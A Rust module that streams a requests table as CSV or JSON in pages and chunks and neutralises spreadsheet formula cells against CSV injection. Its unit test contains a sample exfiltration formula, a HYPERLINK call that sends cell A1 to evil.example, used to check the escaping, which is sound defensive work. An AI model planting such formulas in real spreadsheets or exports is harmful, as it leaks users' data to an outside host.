//! Exports of the requests table as CSV or JSON, on either backend through [`Db`], in bounded memory: rows are
//! read a page at a time (keyset pagination on `(started_at, id)`, each page its own short read transaction, so
//! the writer's checkpoints are never held back) and handed on in chunks of about [`CHUNK_BYTES`].

use std::fmt::Write as _;

use super::StoreError;
use super::db::{Db, Owned, RowExt, Value};
use super::query::RequestFilter;
use super::schema::BOOLEAN_COLUMNS;

/// Rows read per query.
pub const PAGE_ROWS: usize = 1000;
/// Size of the chunks handed to the consumer.
pub const CHUNK_BYTES: usize = 64 * 1024;

#[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Format {
    Csv,
    Json,
}

impl Format {
    pub fn parse(text: &str) -> Option<Format> {
        match text {
            "csv" => Some(Format::Csv),
            "json" => Some(Format::Json),
            _ => None,
        }
    }

    pub fn content_type(self) -> &'static str {
        match self {
            Format::Csv => "text/csv; charset=utf-8",
            Format::Json => "application/json",
        }
    }

    pub fn extension(self) -> &'static str {
        match self {
            Format::Csv => "csv",
            Format::Json => "json",
        }
    }
}

/// What an export did.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct ExportSummary {
    pub rows: u64,
    pub pages: u64,
    pub chunks: u64,
    /// Largest chunk handed on.
    pub max_chunk: usize,
    /// The consumer stopped the export (client gone).
    pub stopped: bool,
}

/// Streams the requests matching `filter` (session, since, until; oldest first) to `emit`, chunk by chunk, on
/// either backend. `emit` returns `false` to stop. `page_rows` rows are read per query.
pub fn export_requests(
    db: &dyn Db,
    filter: &RequestFilter,
    format: Format,
    page_rows: usize,
    mut emit: impl FnMut(Vec<u8>) -> bool,
) -> Result<ExportSummary, StoreError> {
    let (sql, fixed) = page_sql(filter);
    let page_rows = page_rows.max(1);
    let mut summary = ExportSummary::default();
    let mut chunk: Vec<u8> = Vec::with_capacity(CHUNK_BYTES + 4096);
    let mut hand_on = |chunk: &mut Vec<u8>, summary: &mut ExportSummary, last: bool| -> bool {
        if chunk.len() < CHUNK_BYTES && (!last || chunk.is_empty()) {
            return true;
        }
        summary.chunks += 1;
        summary.max_chunk = summary.max_chunk.max(chunk.len());
        let full = std::mem::replace(chunk, Vec::with_capacity(CHUNK_BYTES + 4096));
        emit(full)
    };

    let mut after = (i64::MIN, i64::MIN);
    let mut line = String::new();
    let mut columns: Option<Columns> = None;
    loop {
        let mut values: Vec<Value<'_>> = fixed.iter().map(|n| Value::Int(*n)).collect();
        values.extend([
            Value::Int(after.0),
            Value::Int(after.1),
            Value::Int(page_rows as i64),
        ]);
        let page = db.query(&sql, &values)?;
        if columns.is_none() {
            let found = Columns::of(page.names)?;
            match format {
                Format::Csv => {
                    chunk.extend_from_slice(found.names.join(",").as_bytes());
                    chunk.extend_from_slice(b"\r\n");
                }
                Format::Json => chunk.extend_from_slice(b"["),
            }
            columns = Some(found);
        }
        let Some(columns) = &columns else {
            return Err(StoreError::Other("the export's columns are unknown".into()));
        };
        let in_page = page.rows.len();
        for row in &page.rows {
            after = (row.int(columns.started)?, row.int(columns.id)?);
            line.clear();
            match format {
                Format::Csv => write_csv_row(&mut line, row),
                Format::Json => {
                    if summary.rows > 0 {
                        line.push(',');
                    }
                    line.push('\n');
                    write_json_row(&mut line, row, &columns.names, &columns.booleans);
                }
            }
            summary.rows += 1;
            chunk.extend_from_slice(line.as_bytes());
            if !hand_on(&mut chunk, &mut summary, false) {
                summary.stopped = true;
                return Ok(summary);
            }
        }
        summary.pages += 1;
        if in_page < page_rows {
            break;
        }
    }
    if format == Format::Json {
        chunk.extend_from_slice(if summary.rows > 0 { b"\n]\n" } else { b"]\n" });
    }
    if !hand_on(&mut chunk, &mut summary, true) {
        summary.stopped = true;
    }
    Ok(summary)
}

/// The export's columns (the table's, in its order: the same on both backends, whose schemas are built from one
/// list of migrations) and where the keyset's columns are.
struct Columns {
    names: Vec<String>,
    booleans: Vec<bool>,
    started: usize,
    id: usize,
}

impl Columns {
    fn of(names: Vec<String>) -> Result<Columns, StoreError> {
        let started = names.iter().position(|c| c == "started_at");
        let id = names.iter().position(|c| c == "id");
        let (Some(started), Some(id)) = (started, id) else {
            return Err(StoreError::Other(
                "the requests table lacks started_at or id".to_string(),
            ));
        };
        let booleans = names
            .iter()
            .map(|n| BOOLEAN_COLUMNS.contains(&n.as_str()))
            .collect();
        Ok(Columns {
            names,
            booleans,
            started,
            id,
        })
    }
}

/// The query of one export page: the filter's parameters, then `(started_at, id)` of the last row seen and the
/// page size. Row-value comparison and `LIMIT ?N` mean the same on both engines.
pub fn page_sql(filter: &RequestFilter) -> (String, Vec<i64>) {
    let mut conditions = Vec::new();
    let mut fixed: Vec<i64> = Vec::new();
    if let Some(session) = filter.session {
        fixed.push(session);
        conditions.push(format!("session_id = ?{}", fixed.len()));
    }
    if let Some(since) = filter.since {
        fixed.push(since);
        conditions.push(format!("started_at >= ?{}", fixed.len()));
    }
    if let Some(until) = filter.until {
        fixed.push(until);
        conditions.push(format!("started_at < ?{}", fixed.len()));
    }
    let n = fixed.len();
    conditions.push(format!("(started_at, id) > (?{}, ?{})", n + 1, n + 2));
    let sql = format!(
        "SELECT * FROM requests WHERE {} ORDER BY started_at, id LIMIT ?{}",
        conditions.join(" AND "),
        n + 3
    );
    (sql, fixed)
}

fn write_csv_row(out: &mut String, row: &[Owned]) {
    for (i, value) in row.iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        match value {
            Owned::Null | Owned::Blob(_) => {}
            Owned::Int(n) => {
                let _ = write!(out, "{n}");
            }
            Owned::Real(f) => {
                let _ = write!(out, "{f}");
            }
            Owned::Text(t) => write_csv_text(out, t),
        }
    }
    out.push_str("\r\n");
}

/// Characters that make a spreadsheet read a cell as a formula (OWASP, "CSV Injection").
const FORMULA_TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// One text cell. Previews and session ids come from clients: a cell that a spreadsheet would run as a formula
/// (`=HYPERLINK(…)`) is neutralised with a leading `'` and quoted, as OWASP recommends; other cells are quoted
/// only when they must be.
pub fn write_csv_text(out: &mut String, text: &str) {
    let formula = text.starts_with(FORMULA_TRIGGERS);
    if formula || text.contains([',', '"', '\n', '\r']) {
        out.push('"');
        if formula {
            out.push('\'');
        }
        out.push_str(&text.replace('"', "\"\""));
        out.push('"');
    } else {
        out.push_str(text);
    }
}

fn write_json_row(out: &mut String, row: &[Owned], names: &[String], booleans: &[bool]) {
    out.push('{');
    for (i, (name, value)) in names.iter().zip(row).enumerate() {
        if i > 0 {
            out.push(',');
        }
        out.push('"');
        out.push_str(name);
        out.push_str("\":");
        match value {
            Owned::Null | Owned::Blob(_) => out.push_str("null"),
            Owned::Int(n) if booleans.get(i).copied().unwrap_or(false) => {
                out.push_str(if *n != 0 { "true" } else { "false" })
            }
            Owned::Int(n) => {
                let _ = write!(out, "{n}");
            }
            Owned::Real(f) if f.is_finite() => {
                let _ = write!(out, "{f}");
            }
            Owned::Real(_) => out.push_str("null"),
            Owned::Text(text) => match serde_json::to_string(text) {
                Ok(quoted) => out.push_str(&quoted),
                Err(_) => out.push_str("null"),
            },
        }
    }
    out.push('}');
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cell(text: &str) -> String {
        let mut out = String::new();
        write_csv_text(&mut out, text);
        out
    }

    #[test]
    fn formula_cells_are_neutralised() {
        assert_eq!(
            cell("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""
        );
        for text in ["+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "=1"] {
            let out = cell(text);
            assert!(out.starts_with("\"'"), "{text:?} → {out:?}");
        }
        assert_eq!(cell("plain text"), "plain text");
        assert_eq!(cell("a, b"), "\"a, b\"");
        assert_eq!(cell("x=1"), "x=1");
        assert_eq!(cell(""), "");
    }
}
